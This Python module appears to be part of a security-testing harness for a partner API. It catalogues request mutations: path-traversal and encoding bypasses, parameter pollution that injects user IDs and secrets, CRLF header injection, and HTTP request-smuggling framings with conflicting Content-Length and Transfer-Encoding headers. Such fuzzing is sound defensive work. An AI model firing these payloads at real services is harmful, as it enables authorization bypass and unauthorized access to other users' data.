"""Ways to change a request so that a check may misread it."""

from base64 import b64encode
from collections.abc import Callable
import gzip
from random import Random
from urllib.parse import quote

API = "/api/partners/v2.0"

type Trick = Callable[[Random, str], str]


def _inserted(text: str) -> Trick:
    """Return a trick that puts a text before or after one of the slashes of a path."""

    def insert(random: Random, path: str) -> str:
        slashes = [place for place, char in enumerate(path) if char == "/"] or [0]
        place = random.choice(slashes) + random.randint(0, 1)
        return path[:place] + text + path[place:]

    return insert


def _ended(text: str) -> Trick:
    """Return a trick that puts a text after a path."""
    return lambda _, path: path + text


def _replaced(old: str, new: str) -> Trick:
    """Return a trick that replaces a text."""
    return lambda _, path: path.replace(old, new)


def _one_character(change: Callable[[str], str]) -> Trick:
    """Return a trick that changes one character of a path."""

    def replace(random: Random, path: str) -> str:
        place = random.randrange(len(path) + 1)
        return path[:place] + change(path[place : place + 1]) + path[place + 1 :]

    return replace


def _percent(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def _twice_percent(text: str) -> str:
    return _percent(text).replace("%", "%25")


def _all_percent(_: Random, path: str) -> str:
    return _percent(path)


def _swapped_case(_: Random, path: str) -> str:
    return path.swapcase()


METHODS = (
    *("GET", "PUT", "POST", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT"),
    *(
        "get",
        "Get",
        "PROPFIND",
        "MOVE",
        "LOCK",
        "GETT",
        "PUT\t",
        "POST\x0b",
        "G\x00T",
        "",
    ),
)
PATH_TRICKS: tuple[Trick, ...] = (
    *map(
        _inserted,
        (
            *("/", "//", "./", "../", "/..", "/../x/..", "%2e%2e/", "%2e/", "..%2f"),
            *("%2f", "%252e%252e/", "%252f", "..;/", ";a=b", ";", ".", "..", "%00"),
            *("%0a", "%0d%0a", "%20", "%c0%ae%c0%ae/", "%c0%af", "%ef%bc%8f"),
            *("\uff0f", "\u2215", "\u200b", "\\", "%5c", "..\\", "#", "%23", "?"),
            *("%3f", "&", "*", "~", "+", "%", "%zz"),
        ),
    ),
    *map(_ended, (".", "/", "/.", "/..", "%20", "\t", ".json", ";.json", "%00")),
    *map(_one_character, (_percent, _twice_percent, str.upper)),
    *(
        _replaced(old, new)
        for old, *alternatives in (
            ("/", "%2f", "%2F", "\\", "//"),
            ("v2.0", "v2", "v2x0", "v3.0", "V2.0"),
            ("-", "\u2010", "%2d", "_"),
            ("users", "user", "u%73ers", "USERS", "users/.."),
            (API, "", f"{API}{API}", "/api/partners", "/podero"),
        )
        for new in alternatives
    ),
    _swapped_case,
    _all_percent,
)
QUERY_TRICKS = (
    "include_deleted=true",
    "{query}&user_id={value}",
    "user_id={value}",
    "{query}&{query}",
    "{query};limit=1",
    "{query}&",
    "%6cimit=1&{query}",
    "limit[]=1",
    "limit=1&limit=2",
    "limit=%26user_id%3d1",
    "limit=1%00",
    "secret=1&secret=2",
    "_method=DELETE",
    "/../../{value}/heat-pumps",
    "client_secret={value}&access_token={value}",
    "x#y",
    "?",
)
TARGET_TRICKS = (
    "http://gateway.example.com{target}",
    "https://127.0.0.1{target}",
    "http://podero{target}",
    "//podero{target}",
    "{target} HTTP/1.1 ",
    " {target}",
    "{target}\tHTTP/1.0",
    "*",
    "x{target}",
    "{target} HTTP/1.0\r\nX-A: b",
)
BODY_TRICKS: tuple[Callable[[str, str], str], ...] = (
    lambda name, value: f'{{"{name}": {value}}}',
    *(lambda name, value: f'{{"{name.upper()}": {value}}}',) * 4,
    lambda name, value: f'{{"comment": "a", "{name}": {value}}}',
    lambda name, value: f'{{"{name}": {value}, "{name}": {value}}}',
    lambda name, value: f'{{"{name[0]}\\u{ord(name[1]):04x}{name[2:]}": {value}}}',
    lambda name, value: f'{{"data": {{"{name}": {value}}}}}',
    lambda name, value: f'[{{"{name}": {value}}}]',
    lambda name, value: f'{{"comment": NaN, "{name}": {value}}}',
    lambda name, value: f'{{"comment": 1}} {{"{name}": {value}}}',
    lambda name, value: f'{{"comment": 1, /* */ "{name}": {value}}}',
    lambda name, value: f"{{'{name}': {value}}}",
    lambda name, value: "[" * 200 + f'{{"{name}": {value}}}' + "]" * 200,
    lambda name, value: f'{{"comment": "{"x" * 65536}", "{name}": {value}}}',
    lambda name, value: f"{name}={quote(value)}",
)
BODY_ENCODINGS: tuple[Callable[[str], bytes], ...] = (
    *(str.encode,) * 6,
    lambda text: b"\xef\xbb\xbf" + text.encode(),
    lambda text: text.encode("utf-16"),
    lambda text: text.encode("utf-16-le"),
    lambda text: text.encode("utf-32"),
    lambda text: gzip.compress(text.encode(), mtime=0),
    lambda text: text.encode().replace(b"o", b"\xc1\xaf"),
)
FRAMINGS: tuple[Callable[[bytes], tuple[bytes, bytes]], ...] = (
    lambda inner: (
        b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
        b"0\r\n\r\n" + inner,
    ),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
        b"0\r\n\r\n" + inner,
    ),
    lambda inner: (
        b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n" % len(inner),
        inner,
    ),
    lambda inner: (b"Transfer-Encoding : chunked\r\nContent-Length: 0\r\n", inner),
    lambda inner: (b"Transfer-Encoding:\tchunked\r\n", b"0\r\n\r\n" + inner),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        b"0\r\n\r\n" + inner,
    ),
    lambda inner: (b"Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n" + inner),
    lambda inner: (b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(inner), inner),
    lambda inner: (b"Content-Length: +%d\r\n" % len(inner), inner),
    lambda inner: (b"Content-Length: -1\r\n", inner),
    lambda inner: (b"Content-Length: 0x10\r\n", inner),
    lambda inner: (b"Content-Length: 0, %d\r\n" % len(inner), inner),
    lambda inner: (b"Content-Length: %d\r\n" % len(inner), inner),
    lambda inner: (b"Content-Length: %d\r\n" % (len(inner) + 100), inner),
    lambda inner: (b"Content-Length: 2\r\n", b"{}" + inner),
    lambda inner: (b"X: y\x00z\r\nContent-Length: 0\r\n", inner),
    lambda inner: (b"Content_Length: %d\r\n" % len(inner), inner),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"%x\r\n%b\r\n0\r\n\r\n" % (len(inner), inner),
    ),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"2;a=b\r\n{}\r\n0\r\n\r\n" + inner,
    ),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"0x2\r\n{}\r\n0\r\n\r\n" + inner,
    ),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"ffffffffffffffff2\r\n{}\r\n0\r\n\r\n" + inner,
    ),
    lambda inner: (b"Transfer-Encoding: chunked\r\n", b"2\n{}\n0\n\n" + inner),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"2\r\n{}\r\n0\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
    ),
    lambda inner: (b"Expect: 100-continue\r\nContent-Length: 0\r\n", inner),
)


def base64url(data: bytes) -> str:
    """Encode without padding."""
    return b64encode(data, altchars=b"-_").decode().rstrip("=")
